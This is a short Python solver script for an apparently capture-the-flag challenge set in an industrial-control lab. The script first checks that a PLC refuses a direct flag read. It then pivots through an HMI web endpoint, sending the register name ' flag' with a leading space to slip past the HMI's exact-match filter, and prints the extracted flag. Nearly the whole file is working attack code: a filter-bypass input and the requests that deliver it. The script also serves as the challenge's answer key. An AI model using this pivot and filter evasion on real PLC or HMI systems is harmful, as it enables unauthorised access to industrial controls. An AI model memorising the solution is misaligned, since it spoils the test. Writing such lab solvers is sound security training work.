"""Solver: the PLC refuses us directly, so pivot through the HMI with a register name the
HMI's exact-match filter lets through (" FLAG"); prints the flag in lower case (the flag is
case-insensitive)."""

import re
import socket
import urllib.parse
import urllib.request

with socket.create_connection(("plc", 5020), timeout=5) as direct:  # the way in is closed...
    direct.sendall(b"READ FLAG\n")
    assert b"access denied" in direct.makefile("rb").readline(), "the PLC should refuse us"

url = "http://hmi:8080/read?" + urllib.parse.urlencode({"register": " flag"})
page = urllib.request.urlopen(url, timeout=10).read().decode()
print(re.search(r"ICE\{[^}]+\}", page).group().lower())
